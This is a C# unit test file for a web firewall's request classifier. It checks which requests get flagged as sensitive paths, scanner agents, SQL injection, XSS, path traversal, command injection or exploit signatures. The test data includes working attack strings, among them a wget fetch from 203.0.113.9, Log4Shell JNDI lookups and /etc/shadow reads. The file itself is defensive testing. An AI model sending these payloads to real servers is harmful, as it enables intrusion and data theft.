using Kwaf.Events;
using Kwaf.Gateway.Ingestion.Classification;
using Kwaf.Gateway.Ingestion.Paths;

namespace Kwaf.Gateway.Tests.Ingestion.Classification;

public sealed class RequestClassifierTests
{
    private const string Browser = "Mozilla/5.0 (X11; Linux x86_64)";

    private readonly RequestClassifier _classifier = new(new ClassificationOptions());

    [Theory]
    [InlineData("/.env")]
    [InlineData("/app/.env.local")]
    [InlineData("/.git/config")]
    [InlineData("/.svn/entries")]
    [InlineData("/.htaccess")]
    [InlineData("/.htpasswd")]
    [InlineData("/wp-config.php.bak")]
    [InlineData("/wp-config.php~")]
    [InlineData("/db.sql")]
    [InlineData("/DB.SQL")]
    [InlineData("/backup.old")]
    [InlineData("/index.php.swp")]
    [InlineData("/phpmyadmin/index.php")]
    [InlineData("/phpMyAdmin/")]
    [InlineData("/server-status")]
    [InlineData("/actuator/env")]
    [InlineData("/.aws/credentials")]
    [InlineData("/credentials.json")]
    [InlineData("/.env;jsessionid=1")]
    [InlineData("/api/..;/actuator/env")]
    [InlineData("/invoker/")]
    [InlineData("/web.config")]
    [InlineData("/etc/passwd")]
    [InlineData("/manager/html")]
    public void Classify_SensitivePath_FlagsSensitivePath(string path)
    {
        var traits = Classify(path);

        Assert.True(traits.HasFlag(RequestTraits.SensitivePath), path);
    }

    [Theory]
    [InlineData("/assets/config.json")]
    [InlineData("/config.json")]
    [InlineData("/docs/config.yaml")]
    [InlineData("/products/18423/")]
    [InlineData("/scripts/python/wrap.backup/")]
    public void Classify_FileThatSitesServe_NoSensitivePath(string path)
    {
        // Single-page apps load their settings from config.json on every page view; a directory is not a backup file.
        var traits = Classify(path);

        Assert.False(traits.HasFlag(RequestTraits.SensitivePath), path);
    }

    [Theory]
    [InlineData("/login")]
    [InlineData("/signin")]
    [InlineData("/auth")]
    [InlineData("/wp-login.php")]
    [InlineData("/user/login")]
    [InlineData("/api/token")]
    [InlineData("/oauth/token")]
    [InlineData("/session")]
    [InlineData("/login_form")]
    [InlineData("/join_form")]
    [InlineData("/register")]
    [InlineData("/signup")]
    [InlineData("/sign-up/")]
    [InlineData("/user/register")]
    [InlineData("/account/registration.php")]
    [InlineData("/wp-login.php/")]
    [InlineData("/login;jsessionid=ABC")]
    public void Classify_LoginPath_FlagsLoginEndpoint(string path)
    {
        var traits = Classify(path);

        Assert.True(traits.HasFlag(RequestTraits.LoginEndpoint), path);
    }

    [Theory]
    [InlineData("/blog/how-to-register-a-domain")]
    [InlineData("/registry/packages")]
    [InlineData("/signups-closed")]
    [InlineData("/join")]
    public void Classify_PathNamingRegistrationInPassing_NoLoginEndpoint(string path)
    {
        var traits = Classify(path);

        Assert.False(traits.HasFlag(RequestTraits.LoginEndpoint), path);
    }

    [Theory]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("Mozilla/4.75 (Nikto/1.32 )")]
    [InlineData("Mozilla/5.0 zgrab/0.x")]
    [InlineData("Mozilla/5.0 (compatible; Nmap Scripting Engine)")]
    [InlineData("Fuzz Faster U Fool v2.0 ffuf")]
    [InlineData("WPScan v3.8.22")]
    public void Classify_ScannerAgent_FlagsScannerAgent(string agent)
    {
        var traits = _classifier.Classify("/", "/", null, agent);

        Assert.True(traits.HasFlag(RequestTraits.ScannerAgent), agent);
    }

    [Theory]
    [InlineData("curl/8.5.0")]
    [InlineData("python-requests/2.31.0")]
    [InlineData("Wget/1.21")]
    [InlineData(Browser)]
    public void Classify_OrdinaryAgent_NoAgentTrait(string agent)
    {
        var traits = _classifier.Classify("/", "/", null, agent);

        Assert.Equal(RequestTraits.None, traits);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("  ")]
    public void Classify_NoAgent_FlagsMissingAgent(string? agent)
    {
        var traits = _classifier.Classify("/", "/", null, agent);

        Assert.Equal(RequestTraits.MissingAgent, traits);
    }

    [Theory]
    [InlineData("/items?id=1%20UNION%20SELECT%20password%20FROM%20users", RequestTraits.SqlInjection)]
    [InlineData("/items?id=1+union+all+select+1,2", RequestTraits.SqlInjection)]
    [InlineData("/login?user=admin'%20or%201=1--", RequestTraits.SqlInjection)]
    [InlineData("/q?x=1'%20AND%20sleep(5)", RequestTraits.SqlInjection)]
    [InlineData("/q?x=benchmark(1000000,md5(1))", RequestTraits.SqlInjection)]
    [InlineData("/q?t=information_schema.tables", RequestTraits.SqlInjection)]
    [InlineData("/q?name=bob'--", RequestTraits.SqlInjection)]
    [InlineData("/search?q=<script>alert(1)</script>", RequestTraits.CrossSiteScripting)]
    [InlineData("/search?q=%3Cscript%3Ealert(1)", RequestTraits.CrossSiteScripting)]
    [InlineData("/r?u=javascript:alert(1)", RequestTraits.CrossSiteScripting)]
    [InlineData("/p?x=%22%20onerror=alert(1)", RequestTraits.CrossSiteScripting)]
    [InlineData("/a/../../etc/passwd", RequestTraits.PathTraversal)]
    [InlineData("/a/..%2f..%2fetc", RequestTraits.PathTraversal)]
    [InlineData("/%2e%2e/%2e%2e/x", RequestTraits.PathTraversal)]
    [InlineData("/scripts/..%c1%1c../winnt", RequestTraits.PathTraversal)]
    [InlineData("/view?file=/etc/passwd", RequestTraits.PathTraversal)]
    [InlineData("/ping?host=1.1.1.1;cat%20/etc/shadow", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=127.0.0.1|id", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=1;%20id", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=';id", RequestTraits.CommandInjection)]
    [InlineData("/ping?cmd=;id", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=x|ls%20-la", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=x;wget%20http://203.0.113.9/a.sh", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=x&&id", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=127.0.0.1%0aid", RequestTraits.CommandInjection)]
    [InlineData("/x?a=${${lower:j}ndi:ldap://203.0.113.9/a}", RequestTraits.CommandInjection)]
    [InlineData("/x?a=${${::-j}${::-n}di:ldap://203.0.113.9/a}", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=$(whoami)", RequestTraits.CommandInjection)]
    [InlineData("/ping?host=`id`", RequestTraits.CommandInjection)]
    [InlineData("/scripts/root.exe?/c+dir", RequestTraits.CommandInjection)]
    [InlineData("/winnt/system32/cmd.exe?/c+dir", RequestTraits.CommandInjection)]
    [InlineData("/cgi-bin/x?cmd=/bin/sh", RequestTraits.CommandInjection)]
    public void Classify_AttackInTarget_FlagsCategory(string rawTarget, RequestTraits expected)
    {
        var traits = Classify(rawTarget);

        Assert.True(traits.HasFlag(expected), $"{rawTarget} lacks {expected}; got {traits}");
    }

    [Theory]
    [InlineData("/blog/2015/05/select-a-union-of-things")]
    [InlineData("/search?q=union+station+select+seats")]
    [InlineData("/products?sort=price&order=desc&id=5")]
    [InlineData("/docs/on-boarding/script-writing")]
    [InlineData("/a;jsessionid=0ABC")]
    [InlineData("/news/2024/o'reilly-books")]
    [InlineData("/static/app.min.js")]
    [InlineData("/etc-and-more/passwords")]
    [InlineData("/api/users?fields=name|id")]
    [InlineData("/api/users?sort=name;id")]
    [InlineData("/report?cols=date|ping|latency")]
    [InlineData("/search?q=rock|cat")]
    [InlineData("/search?q=rock|cat+videos")]
    public void Classify_OrdinaryTarget_NoAttackTrait(string rawTarget)
    {
        var traits = Classify(rawTarget);

        Assert.Equal(RequestTraits.None, traits);
    }

    [Theory]
    [InlineData("/static/./../admin/config.php")]
    [InlineData("/../../etc/passwd")]
    public void Classify_RawShowsTraversal_FlagsEvenWhenNormalizedPathIsClean(string rawTarget)
    {
        var normalized = PathNormalizer.Normalize(rawTarget, PathProfile.Unix);

        var traits = _classifier.Classify(rawTarget, normalized.Path, normalized.Query, Browser);

        Assert.DoesNotContain("..", normalized.Path, StringComparison.Ordinal);
        Assert.True(traits.HasFlag(RequestTraits.PathTraversal));
    }

    public static TheoryData<string> ExploitTargets() =>
    [
        "/default.ida?" + new string('X', 224) + "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801=a",
        "/default.ida?" + new string('N', 224) + "%u9090%u6858%ucbd3%u7801=a",
        "/scripts/x.idq?q=1",
        "/NULL.printer",
        "/_vti_bin/_vti_aut/fp30reg.dll?" + string.Concat(Enumerable.Range(0, 120).Select(i => "a" + i)),
        "/" + string.Concat(Enumerable.Repeat("%02%B1", 400)) + string.Concat(Enumerable.Repeat("%90", 40)),
        "/" + string.Concat(Enumerable.Repeat(@"\x90", 32)),
        "/search?q=" + new string('A', 64),
    ];

    [Theory]
    [MemberData(nameof(ExploitTargets))]
    public void Classify_ExploitTarget_FlagsExploitSignature(string rawTarget)
    {
        var traits = Classify(rawTarget);

        Assert.True(traits.HasFlag(RequestTraits.ExploitSignature), $"{Head(rawTarget)} lacks ExploitSignature");
    }

    public static TheoryData<string> OrdinaryLongTargets() =>
    [
        "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&utm_content=hero_button"
            + "&gclid=Cj0KCQjw9uCxBhDtARIsAAhL8Q1kZ3Yx_r7fE2Vb0mQW7n1cTqX4aZpLx9dUvYs6JHkG3eRtBnCiM8aAkH0EALw_wcB"
            + "&fbclid=IwAR2x7QvH4kZp0aLm9NcYt3WqRb5sEj1UoGf8DhKiXyBvTnMlCz6Pw",
        "/api/session?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + Base64Payload(600) + ".SflKxwRJSMeKKF2QT4fw",
        "/search?q=" + string.Concat(Enumerable.Repeat("%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF+", 60)),
        "/find?lang=fr&q=caf%E9&" + string.Concat(Enumerable.Range(0, 150).Select(i => "f" + i + "=v&")),
        "/tx/0x000000000000000000000000000000000000dEaD?page=1",
        "/img?data=" + Base64Payload(1500) + "==",
    ];

    [Theory]
    [MemberData(nameof(OrdinaryLongTargets))]
    public void Classify_OrdinaryLongTarget_NoExploitSignature(string rawTarget)
    {
        var traits = Classify(rawTarget);

        Assert.False(traits.HasFlag(RequestTraits.ExploitSignature), $"{Head(rawTarget)} flagged as exploit");
    }

    [Fact]
    public void Classify_ConfiguredExploitSignature_ExtendsDefaults()
    {
        var options = new ClassificationOptions { ExploitSignatures = [@"^/cgi-bin/overflow\?"] };
        var classifier = new RequestClassifier(options);

        var configured = classifier.Classify("/cgi-bin/overflow?a", "/cgi-bin/overflow", "a", Browser);
        var builtIn = classifier.Classify("/NULL.printer", "/NULL.printer", null, Browser);

        Assert.Equal(RequestTraits.ExploitSignature, configured);
        Assert.Equal(RequestTraits.ExploitSignature, builtIn);
    }

    [Fact]
    public void Classify_DefaultsDisabled_IgnoresBuiltInExploitShapes()
    {
        var options = new ClassificationOptions { IncludeDefaultPatterns = false };
        var classifier = new RequestClassifier(options);
        var target = "/default.ida?" + new string('X', 224) + "%u9090";

        var traits = classifier.Classify(target, "/default.ida", target[13..], Browser);

        Assert.Equal(RequestTraits.None, traits);
    }

    [Fact]
    public void Classify_ConfiguredPattern_ExtendsDefaults()
    {
        var options = new ClassificationOptions { SensitivePaths = [@"^/secret-area/"] };
        var classifier = new RequestClassifier(options);

        var configured = classifier.Classify("/secret-area/x", "/secret-area/x", null, Browser);
        var builtIn = classifier.Classify("/.env", "/.env", null, Browser);

        Assert.Equal(RequestTraits.SensitivePath, configured);
        Assert.Equal(RequestTraits.SensitivePath, builtIn);
    }

    [Fact]
    public void Classify_DefaultsDisabled_UsesOnlyConfigured()
    {
        var options = new ClassificationOptions { IncludeDefaultPatterns = false };
        var classifier = new RequestClassifier(options);

        var traits = classifier.Classify("/.env?q=' or 1=1--", "/.env", "q=' or 1=1--", "sqlmap/1.0");

        Assert.Equal(RequestTraits.None, traits);
    }

    [Fact]
    public void Classify_SameTargetAgain_GivesTheSameTraits()
    {
        const string Target = "/search?q=%27%20OR%201%3D1--";

        var first = _classifier.Classify(Target, "/search", "q=%27%20OR%201%3D1--", Browser);
        var again = _classifier.Classify(Target, "/search", "q=%27%20OR%201%3D1--", Browser);

        Assert.True(first.HasFlag(RequestTraits.SqlInjection));
        Assert.Equal(first, again);
    }

    [Fact]
    public void Classify_SameTargetWithAnotherPath_ClassifiesThePathItIsGiven()
    {
        // A malformed request line stands in as "/": the raw target seen before with its own path gives no answer
        // for it, and the other way round.
        const string Target = "/%253Cscript%253E";

        var decoded = _classifier.Classify(Target, Target, null, Browser);
        var standIn = _classifier.Classify(Target, "/", null, Browser);
        var decodedAgain = _classifier.Classify(Target, Target, null, Browser);

        Assert.True(decoded.HasFlag(RequestTraits.CrossSiteScripting));
        Assert.False(standIn.HasFlag(RequestTraits.CrossSiteScripting));
        Assert.Equal(decoded, decodedAgain);
    }

    private static string Head(string text) => text.Length <= 40 ? text : text[..40];

    // Base64url-like text that never repeats one character: the shape of real tokens.
    private static string Base64Payload(int length)
    {
        const string Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = Alphabet[((i * 37) + (i / 64)) % Alphabet.Length];
        }

        return new string(chars);
    }

    private RequestTraits Classify(string rawTarget)
    {
        var normalized = PathNormalizer.Normalize(rawTarget, PathProfile.Unix);
        return _classifier.Classify(rawTarget, normalized.Path, normalized.Query, Browser);
    }
}
